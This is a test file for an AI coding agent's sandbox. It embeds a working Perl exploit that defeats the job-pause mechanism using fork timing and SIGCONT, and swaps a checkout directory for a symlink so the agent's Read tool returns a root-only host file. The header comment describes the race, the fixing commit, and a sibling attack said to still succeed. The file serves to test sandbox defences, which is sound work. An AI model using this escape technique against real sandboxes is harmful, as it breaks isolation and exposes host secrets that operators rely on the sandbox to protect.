// Sandbox.pausing (freezeProcesses) stops the job's processes in rounds and never looks again at a
// process once it has seen it stopped: a later round only signals the processes that are new. A
// process of the job born after one round's listing (a fork made while the listing was being read)
// is found and stopped only by the next round, and until then it runs: it can send SIGCONT to a
// process the previous round already counted as stopped. That process then runs through the file
// tool's check and open, and the pause is undone. Here a background job (plain perl, run as the
// sandbox user) keeps a swapper that flips a directory of the checkout between itself and a symlink
// to a host directory only root can read, and a forker whose short-lived children wait until they
// see the forker stopped, then continue the swapper; the Read tool, run as the registry runs it
// (inside `pausing`), returns the host's file.
//
// Found against be2f879 (it leaked the host file within seconds, every run); e494e0e (each round reads
// every stopped process again and stops them all again when one ran) closes it. Its sibling,
// pause-undone-by-threads-of-a-zombie-leader.test.ts, still gets through.
import { writeFileSync, mkdirSync, chmodSync } from "node:fs";
import path from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { createPolicyEngine, createToolRegistry, denyingApprovalHandler, type ToolContext } from "../../src/agent/tools/index.js";
import { readTool } from "../../src/agent/tools/read.js";
import { silentLogger } from "../../src/logging/logger.js";
import { createPathGuard, createSandboxExec, detectSandbox, type Sandbox } from "../../src/workspace/index.js";
import { removeDir, tempDir } from "../integration/workspace/helpers.js";

const support = await detectSandbox();
const mode = support.available ? "bwrap" : "off";

/**
 * The attacker. The swapper only renames (it never forks, so once continued it adds nothing a later
 * round would find). The forker makes a child every half millisecond; a child that still runs 0.3 ms
 * after it saw the forker stopped was not in that round's listing: 2 ms later (the host has by then
 * seen the swapper stopped) it continues the swapper.
 */
const ATTACK = String.raw`
use strict; use Time::HiRes qw(time usleep);
$| = 1;
my $outside = $ARGV[0];
sub state_of { my $p = shift; open(my $h, '<', "/proc/$p/stat") or return 'X'; my $s = <$h>; close $h; return $s =~ /.*\) (\S)/s ? $1 : 'X'; }
my $swapper = fork();
if ($swapper == 0) {
  symlink($outside, 'd.link');
  while (1) { rename('d', 'd.real'); rename('d.link', 'd'); usleep(150); rename('d', 'd.link'); rename('d.real', 'd'); usleep(150); }
}
my $forker = fork();
if ($forker == 0) {
  my $me = $$;
  $SIG{CHLD} = 'IGNORE';
  while (1) {
    my $child = fork();
    if (defined $child && $child == 0) {
      my $born = time;
      while (time - $born < 0.03) {
        if (state_of($me) eq 'T') {
          usleep(300);
          if (state_of($me) eq 'T') { usleep(2000); kill 'CONT', $swapper; }
          exit 0;
        }
        usleep(150);
      }
      exit 0;
    }
    usleep(500);
  }
}
print "go\n";
waitpid($swapper, 0);
`;

describe(`the job paused for a host file tool (${mode})`, () => {
  let root: string;
  let tmp: string;
  let outside: string;
  let sandbox: Sandbox;

  beforeEach(() => {
    root = tempDir("pause-sigcont", { sandboxWritable: true });
    tmp = tempDir("pause-sigcont-tmp", { sandboxWritable: true });
    // A host directory the sandbox user cannot read (0700, root's): only the host can leak it.
    outside = tempDir("pause-sigcont-host");
    chmodSync(outside, 0o700);
    writeFileSync(path.join(outside, "notes.txt"), "HOST-ONLY SECRET\n");
    mkdirSync(path.join(root, "d"));
    writeFileSync(path.join(root, "d", "notes.txt"), "inside the checkout\n");
    writeFileSync(path.join(root, "attack.pl"), ATTACK);
    sandbox = createSandboxExec({ root, mode, jobNamespace: mode === "bwrap", tmpDir: tmp });
  });
  afterEach(async () => {
    await sandbox.dispose();
    removeDir(root);
    removeDir(tmp);
    removeDir(outside);
  });

  it("stays paused while Read checks and opens: a child born between two rounds cannot continue the rest", async () => {
    let output = "";
    await sandbox.start!(["perl", "attack.pl", outside], { onStdout: (chunk) => (output += chunk.toString("utf8")) });
    for (let i = 0; i < 400 && !output.includes("go"); i += 1) await new Promise((resolve) => setTimeout(resolve, 25));
    expect(output).toContain("go");

    const registry = createToolRegistry([readTool], { policy: createPolicyEngine(), approval: denyingApprovalHandler });
    const ctx = {
      fs: createPathGuard(root),
      exec: sandbox,
      state: { todos: [], notes: [] },
      baseBranch: "main",
      signal: new AbortController().signal,
      logger: silentLogger,
    } as unknown as ToolContext;

    const results: string[] = [];
    for (let i = 0; i < 40 && !results.some((text) => text.includes("HOST-ONLY")); i += 1) {
      const [result] = await registry.runCalls([{ id: `read-${i}`, name: "Read", input: { file_path: "d/notes.txt", limit: 100 + i } }], ctx);
      results.push(result?.content ?? "");
      // Reads as a model makes them, a moment apart (each asks for a different limit: the registry caches a repeated read).
      await new Promise((resolve) => setTimeout(resolve, 30));
    }
    expect(results.filter((text) => text.includes("HOST-ONLY"))).toEqual([]);
  }, 600_000);
});
